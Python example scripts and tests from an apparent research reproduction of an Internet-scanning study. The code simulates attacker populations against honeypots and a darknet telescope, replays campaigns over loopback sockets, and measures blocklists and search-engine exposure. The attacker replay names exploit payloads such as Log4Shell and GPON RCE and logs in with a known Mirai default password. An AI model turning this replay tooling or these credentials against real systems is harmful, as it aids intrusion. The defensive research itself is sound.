#!/usr/bin/env python3
"""The Section 4.3 search-engine leak experiment, end to end.

Deploys control / previously-leaked / selectively-leaked honeypot groups,
lets the Censys and Shodan models crawl (with per-service blocklists),
runs the attacker population, and measures how being *indexed* changes
the traffic a service receives — the paper's Table 3.

Run:  python examples/leak_experiment.py [scale]
"""

import sys

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.leak import leak_report, unique_credentials_per_group
from repro.deployment.fleet import build_full_deployment
from repro.reporting.tables import render_table
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.rng import RngHub


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.4
    deployment = build_full_deployment(RngHub(42), num_telescope_slash24s=4)
    experiment = deployment.leak_experiment

    print("experiment layout:")
    print(f"  control honeypots:           {len(experiment.control_ips)} IPs (both engines blocked)")
    print(f"  previously leaked honeypots: {len(experiment.previously_leaked_ips)} IPs "
          "(HTTP page indexed for 2 years, engines now blocked)")
    for group in experiment.leak_groups:
        print(f"  leaked to {group.engine:<6}: {group.protocol}/{group.port} on {len(group.ips)} IPs")

    population = build_population(PopulationConfig(year=2021, scale=scale))
    result = run_simulation(deployment, population, SimulationConfig(seed=11))
    dataset = AnalysisDataset.from_simulation(result)

    print(f"\nsimulated {result.total_events():,} events; Censys indexed "
          f"{len(result.engines['censys'].index)} services, Shodan "
          f"{len(result.engines['shodan'].index)}\n")

    rows = leak_report(dataset)
    rendered = []
    for row in rows:
        fold = f"{row.fold:.1f}x"
        markers = ("BOLD " if row.stochastically_greater else "") + (
            "SPIKES" if row.distribution_differs else ""
        )
        rendered.append((row.service, row.group, row.traffic, fold, markers.strip()))
    print(render_table(
        ["Service", "Group", "Traffic", "Fold increase/hr vs control", "Significance"],
        rendered,
        title="Table 3: impact of Internet service search engines",
    ))

    passwords = unique_credentials_per_group(dataset, port=22)
    print("\nunique SSH passwords tried per honeypot (leaked services attract "
          "deeper brute force):")
    for group, average in sorted(passwords.items()):
        print(f"  {group:<8} {average:5.1f}")


if __name__ == "__main__":
    main()
