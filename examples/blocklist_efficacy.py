#!/usr/bin/env python3
"""Do blocklists travel?  (The future work of the paper's Section 8.)

The paper warns that "sharing blocklists ... assumes that the same
attackers attack services across geographic locations and networks" and
leaves measuring the assumption to future work.  This example builds
continent-sourced blocklists from the first half of a simulated week and
evaluates them everywhere during the second half — then repeats the
exercise with a telescope-sourced blocklist, which misses the
telescope-avoiding SSH attacker population entirely.

Run:  python examples/blocklist_efficacy.py [scale]
"""

import sys

from repro.analysis.blocklists import blocklist_coverage, regional_blocklist_matrix
from repro.analysis.dataset import AnalysisDataset
from repro.deployment.fleet import build_full_deployment
from repro.reporting.tables import render_table
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.events import NetworkKind
from repro.sim.rng import RngHub


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.3
    deployment = build_full_deployment(RngHub(42), num_telescope_slash24s=8)
    population = build_population(PopulationConfig(year=2021, scale=scale))
    result = run_simulation(deployment, population, SimulationConfig(seed=19))
    dataset = AnalysisDataset.from_simulation(result)

    print("continent-sourced blocklists (trained on hours 0-84, applied 84-168):")
    cells = regional_blocklist_matrix(dataset)
    print(render_table(
        ["Source", "Target", "IP coverage", "Event coverage"],
        [(c.source_group, c.target_group,
          f"{c.coverage.ip_coverage_pct:.0f}%", f"{c.coverage.event_coverage_pct:.0f}%")
         for c in cells],
    ))

    # A telescope can only contribute IPs it has *seen*; it never observes
    # payloads, so a telescope "blocklist" is really a scanner list — and
    # SSH attackers avoid it altogether.
    telescope_sources = set()
    for port in result.telescope.ports():
        telescope_sources |= result.telescope.sources_on_port(port)
    cloud = [v for v in dataset.vantages if v.kind is NetworkKind.CLOUD]
    coverage = blocklist_coverage(dataset, telescope_sources, cloud, from_hour=84.0)
    print(f"\ntelescope-sourced scanner list ({len(telescope_sources)} IPs) applied to clouds:")
    print(f"  attacker-IP coverage: {coverage.ip_coverage_pct:.0f}%")
    print(f"  malicious-event coverage: {coverage.event_coverage_pct:.0f}%")
    ssh_cloud = dataset.malicious_sources_on_port(22, NetworkKind.CLOUD)
    ssh_covered = len(ssh_cloud & telescope_sources)
    print(f"  of {len(ssh_cloud)} SSH attacker IPs, the telescope had seen "
          f"{ssh_covered} ({100.0 * ssh_covered / max(len(ssh_cloud), 1):.0f}%) — "
          "darknet-sourced intelligence misses the SSH attacker population.")


if __name__ == "__main__":
    main()
