#!/usr/bin/env python3
"""Darknet vs. honeypot: what does a telescope miss, and what does it see?

Reproduces the two complementary findings of Sections 4.2 and 5.2:

* telescopes *miss* the service-seeking attacker population (Tables 8-10),
  but
* telescopes *reveal* address-structure preferences no small honeypot
  fleet could (Figure 1): broadcast-octet avoidance, first-of-/16
  preference, single-target latching.

Run:  python examples/telescope_vs_cloud.py [scale]
"""

import sys

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.networks import telescope_as_report
from repro.analysis.overlap import attacker_overlap
from repro.analysis.structure import figure1_series, structure_profile
from repro.deployment.fleet import build_full_deployment
from repro.reporting.tables import ascii_plot, pct_cell, render_table
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.rng import RngHub


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.4
    deployment = build_full_deployment(RngHub(42), num_telescope_slash24s=16)
    population = build_population(PopulationConfig(year=2021, scale=scale))
    result = run_simulation(deployment, population, SimulationConfig(seed=3))
    dataset = AnalysisDataset.from_simulation(result)

    print("1) What the telescope misses: attacker overlap (Table 9)")
    rows = attacker_overlap(dataset)
    print(render_table(
        ["Port", "% of cloud attackers also seen at telescope"],
        [(row.port, pct_cell(row.telescope_cloud_pct, 1)) for row in rows],
    ))

    print("\n2) Who scans the telescope is *different* (Table 10)")
    print(render_table(
        ["Comparison", "Slice", "sites w/ different top ASes", "avg phi"],
        [(c.comparison, c.slice_name, f"{c.num_different}/{c.num_sites}", f"{c.avg_phi:.2f}")
         for c in telescope_as_report(dataset)],
    ))

    print("\n3) What only the telescope can see: structure preferences (Figure 1)")
    telescope = result.telescope
    for title, port in (("port 445 (SMB): 255-octet avoidance", 445),
                        ("port 22 (SSH): first-of-/16 preference", 22),
                        ("port 17128: single-campaign latching", 17128)):
        series = figure1_series(telescope, port, window=256)
        profile = structure_profile(telescope, port)
        print()
        print(ascii_plot(series, width=72, height=8,
                         title=f"{title} — rolling avg unique scanners/IP"))
        if profile.any_255_ratio is not None and profile.any_255_ratio < 1:
            print(f"   any-255-octet addresses get "
                  f"{profile.avoidance_factor_any_255():.1f}x fewer scanners")
        if profile.slash16_first_ratio and profile.slash16_first_ratio > 1:
            print(f"   x.y.0.0 addresses get {profile.slash16_first_ratio:.1f}x more scanners")
        if profile.top_target_concentration > 5:
            print(f"   hottest IP gets {profile.top_target_concentration:.0f}x the mean")


if __name__ == "__main__":
    main()
