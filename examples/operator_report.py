#!/usr/bin/env python3
"""The operator report: what should a defender do, with evidence?

Runs the quantified Section 8 recommendation checklist (experiment X4)
plus the post-compromise view only an interactive honeypot can give:
which shell commands intruders run once a login succeeds, and which
behavioral tags the scanning population carries.

Run:  python examples/operator_report.py [scale]
"""

import sys

from repro.analysis.commands import classify_command, command_summary
from repro.analysis.dataset import AnalysisDataset
from repro.analysis.recommendations import operator_report
from repro.analysis.tags import tag_distribution, tag_sources
from repro.deployment.fleet import build_full_deployment
from repro.reporting.tables import render_table
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.rng import RngHub


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.3
    deployment = build_full_deployment(RngHub(42), num_telescope_slash24s=8)
    population = build_population(PopulationConfig(year=2021, scale=scale))
    result = run_simulation(deployment, population, SimulationConfig(seed=29))
    dataset = AnalysisDataset.from_simulation(result)

    print("Section 8 recommendations, quantified on this week's capture:")
    print(render_table(
        ["#", "Recommendation", "Evidence", "Value"],
        [(rec.number, rec.title, rec.metric, f"{rec.value:.0f}{rec.unit}")
         for rec in operator_report(dataset)],
    ))

    shells = command_summary(dataset)
    print(f"\npost-compromise activity: {shells.sessions_logged_in:,} shell sessions "
          f"({shells.login_success_rate:.0%} of login attempts), "
          f"{shells.total_commands:,} commands")
    print(render_table(
        ["Command", "Count", "Class"],
        [(command, count, classify_command(command))
         for command, count in shells.top_commands[:8]],
    ))

    distribution = tag_distribution(tag_sources(dataset))
    print("\nactor tags across the scanning population:")
    for tag, count in distribution.items():
        print(f"  {tag:28s} {count:5d} source IPs")


if __name__ == "__main__":
    main()
