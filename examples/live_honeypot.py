#!/usr/bin/env python3
"""Run real honeypots on loopback and attack them with a simulated botnet.

Starts asyncio honeypots (HTTP responder, Telnet login emulator, SSH
banner sensor, and a raw first-payload catcher on an "8080" port), then
replays a small simulated campaign against them over actual TCP sockets.
The captured events flow through the same detection stack the paper's
analyses use: LZR fingerprinting + the vetted IDS ruleset.

Run:  python examples/live_honeypot.py
"""

import asyncio
from collections import Counter

import numpy as np

from repro.detection.classify import MaliciousnessClassifier
from repro.detection.fingerprint import fingerprint
from repro.honeypots.live import (
    FirstPayloadService,
    HttpService,
    LiveHoneypot,
    SshBannerService,
    TelnetService,
    replay_intents,
)
from repro.scanners.base import PortPlan


def build_campaign(rng: np.random.Generator):
    """A miniature mixed campaign: crawlers, exploits, botnet logins,
    and an unexpected-protocol probe (TLS aimed at the HTTP port)."""
    crawler = PortPlan(80, "http", 1.0,
                       http_payloads=("root-get", "robots", "probe001"),
                       http_weights=(0.5, 0.3, 0.2))
    exploit = PortPlan(80, "http", 1.0,
                       http_payloads=("log4shell", "gpon-rce"), http_weights=(0.6, 0.4))
    botnet = PortPlan(23, "telnet", 1.0, credential_dialect="mirai",
                      credential_attempts=(2, 3))
    ssh_probe = PortPlan(22, "ssh", 1.0, credential_dialect="global-ssh",
                         banner_only_fraction=1.0)
    unexpected = PortPlan(8080, "tls", 1.0)

    intents = []
    for index in range(6):
        intents.append(crawler.build_intent(rng, 0.1, 0x0A000001 + index, 0x7F000001))
    for index in range(4):
        intents.append(exploit.build_intent(rng, 0.2, 0x0A000101 + index, 0x7F000001))
    for index in range(3):
        intents.append(botnet.build_intent(rng, 0.3, 0x0A000201 + index, 0x7F000001))
    intents.append(ssh_probe.build_intent(rng, 0.4, 0x0A000301, 0x7F000001))
    intents.append(unexpected.build_intent(rng, 0.5, 0x0A000401, 0x7F000001))
    return intents


async def main() -> None:
    honeypot = LiveHoneypot(
        services={
            0: HttpService(),          # "port 80"
            -1: TelnetService(),       # "port 23"
            -2: SshBannerService(),    # "port 22"
            -3: FirstPayloadService(),  # "port 8080"
        }
    )
    async with honeypot:
        port_map = {
            80: honeypot.bound_ports[0],
            23: honeypot.bound_ports[-1],
            22: honeypot.bound_ports[-2],
            8080: honeypot.bound_ports[-3],
        }
        print("live honeypots listening:",
              ", ".join(f"{logical}->127.0.0.1:{actual}" for logical, actual in port_map.items()))
        intents = build_campaign(np.random.default_rng(7))
        replayed = await replay_intents(intents, port_map)
        await honeypot.stop()
        print(f"replayed {replayed} sessions over real sockets\n")

    classifier = MaliciousnessClassifier()
    protocols: Counter = Counter()
    verdicts: Counter = Counter()
    for event in honeypot.events:
        protocols[fingerprint(event.payload) or "none"] += 1
        verdicts["malicious" if classifier.is_malicious(event) else "benign/unknown"] += 1

    print(f"captured {len(honeypot.events)} events")
    print("fingerprinted protocols:", dict(protocols))
    print("verdicts:", dict(verdicts))
    logins = [event for event in honeypot.events if event.credentials]
    print("credentials harvested:",
          [credential for event in logins for credential in event.credentials])


if __name__ == "__main__":
    asyncio.run(main())
