#!/usr/bin/env python3
"""Packet-level pipeline: intents → wire packets → pcap-lite → flows → Table 11.

Everything else in this repository works at the event level; this example
drops to the wire.  It expands a small simulated campaign into raw TCP
packets, writes them in the pcap-lite binary format, reads them back,
reassembles flows through the TCP state machine (once as a responding
honeypot, once as a silent telescope), and fingerprints the recovered
first payloads — a miniature Section 6 analysis from packets alone.

Run:  python examples/packet_capture.py
"""

import tempfile
from collections import Counter
from pathlib import Path

import numpy as np

from repro.detection.fingerprint import fingerprint
from repro.io.pcaplite import intents_to_packets, packets_to_flows, read_packets, write_packets
from repro.scanners.base import PortPlan


def build_intents():
    rng = np.random.default_rng(3)
    plans = [
        PortPlan(80, "http", 1.0, http_payloads=("root-get", "log4shell"),
                 http_weights=(0.7, 0.3)),
        PortPlan(80, "tls", 1.0),       # the unexpected protocol
        PortPlan(80, "telnet", 1.0),    # another one
        PortPlan(8080, "http", 1.0, http_payloads=("gpon-rce",), http_weights=(1.0,)),
    ]
    intents = []
    for index, plan in enumerate(plans * 6):
        intents.append(plan.build_intent(rng, 0.5 + index * 0.01,
                                         0x0A000001 + index, 0xC0A80001))
    return intents


def main() -> None:
    intents = build_intents()
    packets = list(intents_to_packets(intents))
    path = Path(tempfile.gettempdir()) / "cloudwatching_capture.cwp"
    count = write_packets(path, packets)
    print(f"expanded {len(intents)} sessions into {count} packets "
          f"({path.stat().st_size} bytes at {path})")

    replayed = list(read_packets(path))
    assert replayed == packets, "pcap-lite must round-trip exactly"

    honeypot_flows = packets_to_flows(replayed, server_responds=True)
    telescope_flows = packets_to_flows(replayed, server_responds=False)

    protocols = Counter(
        fingerprint(flow.first_payload) or "none" for flow in honeypot_flows
    )
    print("\nhoneypot view (handshakes completed):")
    total = sum(protocols.values())
    for protocol, seen in protocols.most_common():
        print(f"  {protocol:8s} {seen:3d} flows ({100.0 * seen / total:.0f}%)")
    unexpected = sum(seen for protocol, seen in protocols.items()
                     if protocol not in ("http", "none"))
    print(f"  => {100.0 * unexpected / total:.0f}% of port-80/8080 flows are not HTTP "
          "(the Section 6 blind spot)")

    with_payloads = sum(1 for flow in telescope_flows if flow.first_payload)
    print(f"\ntelescope view: {len(telescope_flows)} flows, {with_payloads} payloads — "
          "a telescope cannot run this analysis at all")


if __name__ == "__main__":
    main()
