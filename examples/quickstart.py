#!/usr/bin/env python3
"""Quickstart: simulate a week of Internet scanning and analyze it.

Builds the paper's vantage-point fleet (GreyNoise clouds + Honeytrap
education networks + the Orion telescope), runs the calibrated 2021
scanner population against it, and answers two of the paper's headline
questions from the captured traffic:

1. Do attackers avoid network telescopes?  (Table 8)
2. How much traffic is actually malicious? (Section 3.2)

Run:  python examples/quickstart.py [scale]
"""

import sys
import time

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.overlap import scanner_overlap
from repro.analysis.ports import methodology_numbers
from repro.deployment.fleet import build_full_deployment
from repro.reporting.tables import pct_cell, render_table
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.rng import RngHub


def main() -> None:
    scale = float(sys.argv[1]) if len(sys.argv) > 1 else 0.3

    print(f"building deployment + population (scale={scale}) ...")
    deployment = build_full_deployment(RngHub(42), num_telescope_slash24s=8)
    population = build_population(PopulationConfig(year=2021, scale=scale))
    print(f"  {len(deployment.honeypots)} honeypots, "
          f"{deployment.telescope.num_ips} telescope IPs, "
          f"{len(population)} scanning campaigns")

    started = time.perf_counter()
    result = run_simulation(deployment, population, SimulationConfig(seed=7))
    print(f"simulated one week in {time.perf_counter() - started:.1f}s "
          f"({result.total_events():,} honeypot events)\n")

    dataset = AnalysisDataset.from_simulation(result)

    print("Do attackers avoid telescopes?  (paper Table 8)")
    rows = scanner_overlap(dataset)
    print(render_table(
        ["Port", "% cloud scanners also in telescope", "% EDU scanners also in telescope"],
        [(r.port, pct_cell(r.telescope_cloud_pct), pct_cell(r.telescope_edu_pct))
         for r in rows],
    ))
    ssh = next(r for r in rows if r.port == 22)
    telnet = next(r for r in rows if r.port == 23)
    print(f"\n=> SSH scanners avoid the telescope ({ssh.telescope_cloud_pct:.0f}% overlap) "
          f"while Telnet botnets do not ({telnet.telescope_cloud_pct:.0f}%) — "
          "a darknet-only study would miss most SSH attackers.\n")

    numbers = methodology_numbers(dataset)
    print("How much traffic is malicious?  (paper Section 3.2)")
    print(f"  Telnet sessions without a login attempt: {numbers.telnet_non_auth_pct:.0f}%")
    print(f"  SSH sessions without a login attempt:    {numbers.ssh_non_auth_pct:.0f}%")
    print(f"  HTTP/80 requests without an exploit:     {numbers.http80_non_exploit_pct:.0f}%")
    print(f"  Distinct HTTP payloads that are malicious: "
          f"{numbers.distinct_http_payloads_malicious_pct:.0f}%")


if __name__ == "__main__":
    main()
