#!/usr/bin/env python3
"""Produce (and re-consume) a dataset release, like the paper's.

The paper publicly releases its scanning dataset; this example simulates
a week, writes the captured events in the NDJSON release format, reloads
them into a fresh AnalysisDataset, and verifies an analysis computed from
the released file matches the in-memory one.

Run:  python examples/release_dataset.py [output.ndjson.gz]
"""

import sys
import tempfile
from pathlib import Path

from repro.analysis.dataset import AnalysisDataset
from repro.analysis.summary import vantage_summary
from repro.deployment.fleet import build_full_deployment
from repro.io.records import read_events, write_events
from repro.reporting.tables import render_table
from repro.scanners.population import PopulationConfig, build_population
from repro.sim.engine import SimulationConfig, run_simulation
from repro.sim.rng import RngHub


def main() -> None:
    if len(sys.argv) > 1:
        output = Path(sys.argv[1])
    else:
        output = Path(tempfile.gettempdir()) / "cloudwatching_release.ndjson.gz"

    deployment = build_full_deployment(RngHub(42), num_telescope_slash24s=4)
    population = build_population(PopulationConfig(year=2021, scale=0.2))
    result = run_simulation(deployment, population, SimulationConfig(seed=21))

    count = write_events(output, result.events())
    size_kib = output.stat().st_size / 1024
    print(f"wrote {count:,} events to {output} ({size_kib:,.0f} KiB)")

    reloaded = AnalysisDataset(
        events=read_events(output),
        vantages=deployment.honeypots,
        window=result.window,
        telescope=result.telescope,
        leak_experiment=deployment.leak_experiment,
    )
    original = AnalysisDataset.from_simulation(result)

    reloaded_rows = vantage_summary(reloaded)
    original_rows = vantage_summary(original)
    assert reloaded_rows == original_rows, "release must reproduce analyses exactly"

    print("\nTable 1 recomputed from the released file:")
    print(render_table(
        ["Network", "Collection", "#Scan IPs", "#Scan ASes"],
        [(r.network, r.collection, r.unique_scan_ips, r.unique_scan_ases)
         for r in reloaded_rows],
    ))
    print("\nrelease round-trips: analyses on the file match the in-memory capture")


if __name__ == "__main__":
    main()
