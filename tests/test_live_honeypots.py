"""Integration tests for the live asyncio honeypots and the replayer."""

import asyncio

import numpy as np
import pytest

from repro.detection.fingerprint import fingerprint
from repro.honeypots.live import (
    FirstPayloadService,
    HttpService,
    LiveHoneypot,
    ReplayClient,
    SshBannerService,
    TelnetService,
    replay_intents,
)
from repro.scanners.base import PortPlan
from repro.scanners.payloads import http_payload, protocol_first_payload
from repro.sim.events import Credential, ScanIntent


def run(coroutine):
    return asyncio.run(coroutine)


class TestHttpService:
    def test_request_captured_and_answered(self):
        async def scenario():
            async with LiveHoneypot(services={0: HttpService()}) as pot:
                client = ReplayClient()
                request = http_payload("root-get").render("127.0.0.1")
                reply = await client.send_payload(pot.bound_ports[0], request)
                return pot.events, reply

        events, reply = run(scenario())
        assert reply.startswith(b"HTTP/1.1 200 OK")
        assert len(events) == 1
        assert fingerprint(events[0].payload) == "http"
        assert events[0].handshake

    def test_exploit_payload_captured_verbatim(self):
        async def scenario():
            async with LiveHoneypot(services={0: HttpService()}) as pot:
                payload = http_payload("log4shell").render("127.0.0.1")
                await ReplayClient().send_payload(pot.bound_ports[0], payload)
                return pot.events, payload

        events, payload = run(scenario())
        assert events[0].payload == payload


class TestTelnetService:
    def test_credentials_recorded(self):
        async def scenario():
            async with LiveHoneypot(services={0: TelnetService()}) as pot:
                await ReplayClient().login_session(
                    pot.bound_ports[0],
                    [Credential("root", "xc3511"), Credential("admin", "admin")],
                )
                return pot.events

        events = run(scenario())
        assert events[0].credentials == (("root", "xc3511"), ("admin", "admin"))

    def test_connection_without_login_recorded(self):
        async def scenario():
            async with LiveHoneypot(services={0: TelnetService()}) as pot:
                reader, writer = await asyncio.open_connection("127.0.0.1", pot.bound_ports[0])
                await reader.read(64)
                writer.close()
                await writer.wait_closed()
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 1
        assert events[0].credentials == ()


class TestSshBanner:
    def test_banner_exchange(self):
        async def scenario():
            async with LiveHoneypot(services={0: SshBannerService()}) as pot:
                reply = await ReplayClient().send_payload(
                    pot.bound_ports[0], protocol_first_payload("ssh")
                )
                return pot.events, reply

        events, reply = run(scenario())
        assert reply.startswith(b"SSH-2.0-OpenSSH")
        assert fingerprint(events[0].payload) == "ssh"


class TestFirstPayloadService:
    def test_unexpected_protocol_on_http_port(self):
        """The Section 6 scenario: a TLS ClientHello aimed at port 80."""

        async def scenario():
            async with LiveHoneypot(services={0: FirstPayloadService()}) as pot:
                await ReplayClient().send_payload(
                    pot.bound_ports[0], protocol_first_payload("tls")
                )
                return pot.events

        events = run(scenario())
        assert fingerprint(events[0].payload) == "tls"

    def test_silent_connection(self):
        async def scenario():
            pot = LiveHoneypot(services={0: FirstPayloadService()})
            pot.services[0].read_timeout = 0.2
            async with pot:
                reader, writer = await asyncio.open_connection("127.0.0.1", pot.bound_ports[0])
                await asyncio.sleep(0.3)
                writer.close()
                await writer.wait_closed()
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 1
        assert events[0].payload == b""


class TestReplayIntents:
    def test_replay_many(self):
        async def scenario():
            # keys 0/-1 request ephemeral ports; port_map translates below
            pot = LiveHoneypot(services={0: HttpService(), -1: TelnetService()})
            async with pot:
                port_map = {80: pot.bound_ports[0], 23: pot.bound_ports[-1]}
                rng = np.random.default_rng(0)
                http_plan = PortPlan(80, "http", 1.0,
                                     http_payloads=("root-get",), http_weights=(1.0,))
                telnet_plan = PortPlan(23, "telnet", 1.0,
                                       credential_dialect="mirai",
                                       credential_attempts=(2, 2))
                intents = [
                    http_plan.build_intent(rng, 0.1, 100 + i, 200) for i in range(4)
                ] + [
                    telnet_plan.build_intent(rng, 0.2, 300 + i, 200) for i in range(2)
                ]
                count = await replay_intents(intents, port_map)
                await pot.stop()
                return count, pot.events

        count, events = run(scenario())
        assert count == 6
        assert len(events) == 6
        telnet_events = [event for event in events if event.credentials]
        assert len(telnet_events) == 2


class TestLifecycle:
    def test_double_start_rejected(self):
        async def scenario():
            pot = LiveHoneypot(services={0: HttpService()})
            await pot.start()
            with pytest.raises(RuntimeError):
                await pot.start()
            await pot.stop()

        run(scenario())

    def test_multiple_services_distinct_ports(self):
        async def scenario():
            pot = LiveHoneypot(services={0: HttpService(), -1: TelnetService()})
            async with pot:
                return dict(pot.bound_ports)

        ports = run(scenario())
        assert len(set(ports.values())) == 2


class TestConcurrentReplay:
    def test_no_event_loss_under_concurrent_connections(self):
        """Thirty-two clients hammering one service at once: every
        session is captured, and the on_event stream tap sees each one."""

        async def scenario():
            streamed = []
            pot = LiveHoneypot(services={0: HttpService()},
                               on_event=streamed.append)
            async with pot:
                port = pot.bound_ports[0]
                request = http_payload("root-get").render("127.0.0.1")

                async def one_client(i):
                    return await ReplayClient().send_payload(port, request)

                replies = await asyncio.gather(*(one_client(i) for i in range(32)))
                await pot.stop()
                return replies, pot.events, streamed

        replies, events, streamed = run(scenario())
        assert len(replies) == 32
        assert all(reply.startswith(b"HTTP/1.1 200 OK") for reply in replies)
        assert len(events) == 32  # zero loss
        assert len(streamed) == 32  # the live tap saw every session
        assert {id(event) for event in streamed} == {id(event) for event in events}

    def test_concurrent_telnet_sessions_keep_credentials_separate(self):
        async def scenario():
            pot = LiveHoneypot(services={0: TelnetService()})
            async with pot:
                port = pot.bound_ports[0]
                await asyncio.gather(*(
                    ReplayClient().login_session(
                        port, [Credential(f"user{i}", f"pass{i}")]
                    )
                    for i in range(8)
                ))
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 8
        recorded = {event.credentials for event in events}
        assert recorded == {((f"user{i}", f"pass{i}"),) for i in range(8)}


class TestResourceCaps:
    def test_connection_limit_rejects_excess_clients(self):
        """With max_connections=1 and one connection parked in the
        handler, further connections are turned away and counted."""

        async def scenario():
            pot = LiveHoneypot(services={0: FirstPayloadService()},
                               max_connections=1)
            pot.services[0].read_timeout = 1.0
            async with pot:
                port = pot.bound_ports[0]
                # Park a silent connection inside the handler.
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                await asyncio.sleep(0.1)
                # These arrive while the slot is taken.
                for _ in range(3):
                    r2, w2 = await asyncio.open_connection("127.0.0.1", port)
                    assert await r2.read(64) == b""  # closed without service
                    w2.close()
                    await w2.wait_closed()
                writer.close()
                await writer.wait_closed()
                await pot.stop()
                return pot

        pot = run(scenario())
        assert pot.rejected_connections == 3
        assert len(pot.events) == 1  # only the parked connection was served

    def test_oversized_first_payload_is_capped(self):
        """A client streaming far more than max_payload_bytes cannot
        make the server buffer it all: the capture is capped."""

        async def scenario():
            pot = LiveHoneypot(services={0: FirstPayloadService()})
            async with pot:
                blob = b"A" * (256 * 1024)
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", pot.bound_ports[0]
                )
                try:
                    # The server caps its read and closes mid-stream; the
                    # resulting reset on our side is the expected outcome.
                    writer.write(blob)
                    await writer.drain()
                    await reader.read()
                except (ConnectionResetError, BrokenPipeError):
                    pass
                finally:
                    writer.close()
                    try:
                        await writer.wait_closed()
                    except (ConnectionResetError, BrokenPipeError):
                        pass
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 1
        assert 0 < len(events[0].payload) <= pot_max_payload()

    def test_oversized_telnet_line_does_not_kill_session(self):
        """A 200 KB username with no newline in sight: the session
        survives, the event is recorded, credentials stay empty."""

        async def scenario():
            pot = LiveHoneypot(services={0: TelnetService()})
            async with pot:
                reader, writer = await asyncio.open_connection(
                    "127.0.0.1", pot.bound_ports[0]
                )
                await reader.read(64)  # banner
                writer.write(b"B" * (200 * 1024))  # no newline: overruns the limit
                await writer.drain()
                writer.close()
                await writer.wait_closed()
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 1
        assert events[0].credentials == ()


def pot_max_payload() -> int:
    return FirstPayloadService().max_payload_bytes


class TestLiveAnalysisIntegration:
    def test_live_capture_feeds_analysis_pipeline(self):
        """Live-captured events run through the same AnalysisDataset the
        simulator feeds — fingerprints, maliciousness, counters."""
        from repro.analysis.dataset import AnalysisDataset
        from repro.honeypots.live import live_vantage
        from repro.sim.clock import WEEK_2021

        async def scenario():
            pot = LiveHoneypot(services={0: HttpService(), -1: TelnetService()})
            async with pot:
                client = ReplayClient()
                await client.send_payload(
                    pot.bound_ports[0], http_payload("log4shell").render("127.0.0.1")
                )
                await client.send_payload(
                    pot.bound_ports[0], http_payload("root-get").render("127.0.0.1")
                )
                await client.login_session(
                    pot.bound_ports[-1], [Credential("root", "xc3511")]
                )
                await pot.stop()
            return pot

        pot = run(scenario())
        dataset = AnalysisDataset(pot.events, [live_vantage(pot)], WEEK_2021)
        malicious, total = dataset.malicious_fraction(dataset.events)
        assert total == 3
        assert malicious == 2  # exploit + login attempt; benign GET passes
        protocols = {dataset.fingerprint_of(event) for event in dataset.events}
        assert "http" in protocols
