"""Integration tests for the live asyncio honeypots and the replayer."""

import asyncio

import numpy as np
import pytest

from repro.detection.fingerprint import fingerprint
from repro.honeypots.live import (
    FirstPayloadService,
    HttpService,
    LiveHoneypot,
    ReplayClient,
    SshBannerService,
    TelnetService,
    replay_intents,
)
from repro.scanners.base import PortPlan
from repro.scanners.payloads import http_payload, protocol_first_payload
from repro.sim.events import Credential, ScanIntent


def run(coroutine):
    return asyncio.run(coroutine)


class TestHttpService:
    def test_request_captured_and_answered(self):
        async def scenario():
            async with LiveHoneypot(services={0: HttpService()}) as pot:
                client = ReplayClient()
                request = http_payload("root-get").render("127.0.0.1")
                reply = await client.send_payload(pot.bound_ports[0], request)
                return pot.events, reply

        events, reply = run(scenario())
        assert reply.startswith(b"HTTP/1.1 200 OK")
        assert len(events) == 1
        assert fingerprint(events[0].payload) == "http"
        assert events[0].handshake

    def test_exploit_payload_captured_verbatim(self):
        async def scenario():
            async with LiveHoneypot(services={0: HttpService()}) as pot:
                payload = http_payload("log4shell").render("127.0.0.1")
                await ReplayClient().send_payload(pot.bound_ports[0], payload)
                return pot.events, payload

        events, payload = run(scenario())
        assert events[0].payload == payload


class TestTelnetService:
    def test_credentials_recorded(self):
        async def scenario():
            async with LiveHoneypot(services={0: TelnetService()}) as pot:
                await ReplayClient().login_session(
                    pot.bound_ports[0],
                    [Credential("root", "xc3511"), Credential("admin", "admin")],
                )
                return pot.events

        events = run(scenario())
        assert events[0].credentials == (("root", "xc3511"), ("admin", "admin"))

    def test_connection_without_login_recorded(self):
        async def scenario():
            async with LiveHoneypot(services={0: TelnetService()}) as pot:
                reader, writer = await asyncio.open_connection("127.0.0.1", pot.bound_ports[0])
                await reader.read(64)
                writer.close()
                await writer.wait_closed()
                await pot.stop()
                return pot.events

        events = run(scenario())
        assert len(events) == 1
        assert events[0].credentials == ()


class TestSshBanner:
    def test_banner_exchange(self):
        async def scenario():
            async with LiveHoneypot(services={0: SshBannerService()}) as pot:
                reply = await ReplayClient().send_payload(
                    pot.bound_ports[0], protocol_first_payload("ssh")
                )
                return pot.events, reply

        events, reply = run(scenario())
        assert reply.startswith(b"SSH-2.0-OpenSSH")
        assert fingerprint(events[0].payload) == "ssh"


class TestFirstPayloadService:
    def test_unexpected_protocol_on_http_port(self):
        """The Section 6 scenario: a TLS ClientHello aimed at port 80."""

        async def scenario():
            async with LiveHoneypot(services={0: FirstPayloadService()}) as pot:
                await ReplayClient().send_payload(
                    pot.bound_ports[0], protocol_first_payload("tls")
                )
                return pot.events

        events = run(scenario())
        assert fingerprint(events[0].payload) == "tls"

